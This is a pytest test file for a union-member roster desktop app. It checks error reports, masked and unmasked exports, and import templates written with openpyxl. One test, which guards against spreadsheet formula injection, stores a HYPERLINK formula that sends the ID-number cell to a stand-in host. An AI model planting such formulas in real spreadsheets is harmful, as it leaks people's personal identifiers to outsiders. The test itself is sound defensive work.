"""Error report, export and template: written, then re-read with openpyxl."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest

from desktop.errors import UnionDeskError
from desktop.services.members import registry as members
from desktop.services.members.queries import MemberFilter
from desktop.services.rosters import importer
from desktop.services.rosters.checking import ImportOptions
from desktop.services.rosters.export import export_members
from desktop.spreadsheets.error_report import write_error_report
from desktop.spreadsheets.template import write_template
from desktop.storage.database import Database

from .helpers import make_id, read_sheet, setup_registry, write_csv, write_xlsx

TODAY = date(2026, 11, 21)


def _import(db: Database, tmp_path: Path, rows: list[list[object]]) -> None:
    path = write_xlsx(tmp_path / "in.xlsx", [["姓名", "身份证号", "工会", "手机号"], *rows])
    importer.commit(db, importer.prepare(db, path, ImportOptions(today=TODAY)))


def test_error_report_content(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    good = make_id(seq=1)
    path = write_xlsx(
        tmp_path / "bad.xlsx",
        [
            ["花名册"],
            ["姓名", "身份证号", "工会", "手机号"],
            ["甲", good, "甲公司工会", "13800138000"],
            ["乙", 4.40304198503151e17, "甲公司工会", "123"],
        ],
    )
    preview = importer.prepare(db, path, ImportOptions(today=TODAY))
    report = write_error_report(preview, tmp_path / "errors.xlsx")
    rows = read_sheet(report)
    assert rows[0] == ("原表行号", "问题说明", "姓名", "身份证号", "工会", "手机号")
    assert len(rows) == 3  # every member row: the report is the roster to import
    assert rows[1] == (3, "无误", "甲", good, "甲公司工会", "13800138000")
    assert rows[2][0] == 4 and rows[2][2] == "乙"
    assert "第 4 行「身份证号」" in rows[2][1] and "第 4 行「手机号」" in rows[2][1]
    ws = openpyxl.load_workbook(report).active
    assert ws["D3"].fill.fgColor.rgb.endswith("FFC7CE")  # 身份证号 highlighted
    assert ws["F3"].fill.fgColor.rgb.endswith("FFC7CE")  # 手机号 highlighted
    assert ws["C3"].fill.fill_type is None and ws["D2"].fill.fill_type is None
    assert ws.freeze_panes == "A2"


def test_corrected_error_report_imports_again(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    number = make_id(seq=3)
    path = write_xlsx(
        tmp_path / "bad.xlsx", [["姓名", "身份证号", "工会"], ["乙", number, "不存在的工会"]]
    )
    preview = importer.prepare(db, path, ImportOptions(today=TODAY))
    report = write_error_report(preview, tmp_path / "errors.xlsx")
    wb = openpyxl.load_workbook(report)
    wb.active["E2"] = "甲公司工会"
    wb.save(report)
    fixed = importer.prepare(db, report, ImportOptions(today=TODAY))
    assert fixed.counts["new"] == 1 and fixed.counts["refused"] == 0


def test_export_masked_and_unmasked_reread(db: Database, tmp_path: Path) -> None:
    ids = setup_registry(db, "甲公司工会", "乙公司工会")
    a, b = make_id(seq=1), "11010519491231002X"
    _import(db, tmp_path, [["张三", a, "甲公司工会", "13800138000"], ["李四", b, "乙公司工会", ""]])

    masked = export_members(db, tmp_path / "masked.xlsx")
    rows = read_sheet(masked.path)
    assert rows[0][:6] == ("姓名", "身份证号", "性别", "出生年份", "所属工会", "手机号")
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["张三"][1] == a[:3] + "*" * 13 + a[-2:]
    assert by_name["李四"][3] == 1949  # the year only beside a masked number
    assert by_name["张三"][5] == "138****8000"
    assert a not in str(rows)

    full = export_members(db, tmp_path / "full.xlsx", unmasked=True)
    rows = read_sheet(full.path)
    by_name = {r[0]: r for r in rows[1:]}
    assert by_name["张三"][1] == a and isinstance(by_name["张三"][1], str)
    assert by_name["李四"][1] == b and by_name["李四"][2] == "女"
    assert by_name["张三"][5] == "13800138000"

    ws = openpyxl.load_workbook(full.path).active
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:Q3"
    assert ws.page_setup.paperSize == 9 and ws.page_setup.orientation == "landscape"
    assert ws["A1"].font.bold and ws.column_dimensions["B"].width >= 20
    assert ws["B2"].data_type == "s"  # a text cell, never a number

    only_b = export_members(
        db, tmp_path / "b.xlsx", MemberFilter(union_id=ids["乙公司工会"]), unmasked=True
    )
    assert only_b.rows == 1 and read_sheet(only_b.path)[1][0] == "李四"


def test_unmasked_export_round_trips_as_unchanged(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    _import(db, tmp_path, [["张三", make_id(seq=1), "甲公司工会", "13800138000"]])
    full = export_members(db, tmp_path / "full.xlsx", unmasked=True)
    again = importer.prepare(db, full.path, ImportOptions(on_duplicate="update", today=TODAY))
    assert again.counts["unchanged"] == 1, again.problems


def test_export_to_a_locked_target(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    folder = tmp_path / "missing"
    with pytest.raises(UnionDeskError, match="不存在"):
        export_members(db, folder / "x.xlsx")


def test_template_has_validations_text_columns_and_instructions(tmp_path: Path) -> None:
    path = write_template(tmp_path / "模板.xlsx", ["甲公司工会"])
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["会员名册", "代码表", "填写说明"]
    assert wb["代码表"].sheet_state == "hidden"
    ws = wb["会员名册"]
    headers = [c.value for c in ws[1]]
    assert headers[:4] == ["姓名*", "身份证号*", "所属工会*", "手机号"]
    assert ws["B2"].number_format == "@" and ws["D2"].number_format == "@"
    lists = {str(dv.sqref).split(":")[0]: dv for dv in ws.data_validations.dataValidation}
    for column in ("C2", "E2", "F2", "G2", "H2", "I2", "M2"):  # union + every code list
        assert lists[column].type == "list", column
    assert lists["B2"].type == "textLength"
    ethnicity = wb["代码表"]
    assert "汉族" in [c.value for c in ethnicity["B"]]
    help_rows = [r for r in wb["填写说明"].iter_rows(values_only=True)]
    assert ("张三", "11010519491231002X") == tuple(help_rows[-1][:2])


def test_template_round_trip_imports(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    path = write_template(tmp_path / "t.xlsx", ["甲公司工会"])
    wb = openpyxl.load_workbook(path)
    ws = wb["会员名册"]
    ws["A2"], ws["B2"], ws["C2"], ws["E2"] = "张三", make_id(seq=7), "甲公司工会", "汉族"
    wb.save(path)
    preview = importer.prepare(db, path, ImportOptions(today=TODAY))
    assert preview.counts["new"] == 1 and preview.counts["total"] == 1


def test_export_writes_real_date_cells(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    number = make_id(birth="19850315", seq=1)
    _import(db, tmp_path, [["张三", number, "甲公司工会", "13800138000"]])
    result = export_members(db, tmp_path / "dates.xlsx", unmasked=True)
    ws = openpyxl.load_workbook(result.path).active
    header = [c.value for c in ws[1]]
    birth = ws.cell(row=2, column=header.index("出生日期") + 1)
    joined = ws.cell(row=2, column=header.index("入会日期") + 1)
    assert birth.is_date and birth.number_format == "yyyy-mm-dd"
    assert birth.value.date() == date(1985, 3, 15)
    with zipfile.ZipFile(result.path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
    # An Excel serial number (31121 = 1985-03-15) with a style, not a text cell.
    assert re.search(rf'<c r="{birth.coordinate}" s="\d+" t="n"><v>31121</v></c>', sheet)
    assert joined.is_date and joined.number_format == "yyyy-mm-dd"
    assert joined.value.date() == TODAY  # the importer's default 入会日期
    for label in ("身份证号", "手机号"):  # identifiers stay text, never numbers
        assert ws.cell(row=2, column=header.index(label) + 1).data_type == "s"
    assert ws.cell(row=2, column=header.index("所属工会") + 1).number_format == "General"


def test_export_never_writes_a_formula(db: Database, tmp_path: Path) -> None:
    ids = setup_registry(db)
    trap = '=HYPERLINK("http://example.invalid/?"&B2,"点此核对")'
    members.add(
        db,
        {
            "name": "张三",
            "id_number": make_id(seq=3),
            "union_id": ids["甲公司工会"],
            "employer": "=1+1",
            "notes": trap,
        },
    )
    result = export_members(db, tmp_path / "safe.xlsx", unmasked=True)
    with zipfile.ZipFile(result.path) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    row = dict(zip(read_sheet(result.path)[0], read_sheet(result.path)[1], strict=True))
    assert row["工作单位"] == "=1+1" and row["备注"] == trap
    again = importer.prepare(db, result.path, ImportOptions(on_duplicate="update", today=TODAY))
    assert again.counts["unchanged"] == 1, again.problems


def test_error_report_never_writes_a_formula(db: Database, tmp_path: Path) -> None:
    setup_registry(db)
    path = write_csv(
        tmp_path / "r.csv",
        [
            ["姓名", "身份证号", "工会", "备注", "=说明"],
            ["甲", "123", "甲公司工会", "=1+1", "=2+2"],
        ],
        "utf-8",
    )
    report = write_error_report(importer.prepare(db, path, ImportOptions()), tmp_path / "e.xlsx")
    with zipfile.ZipFile(report) as zf:
        assert b"<f>" not in zf.read("xl/worksheets/sheet1.xml")
    rows = read_sheet(report)
    assert rows[0][-1] == "=说明" and rows[1][-2:] == ("=1+1", "=2+2")
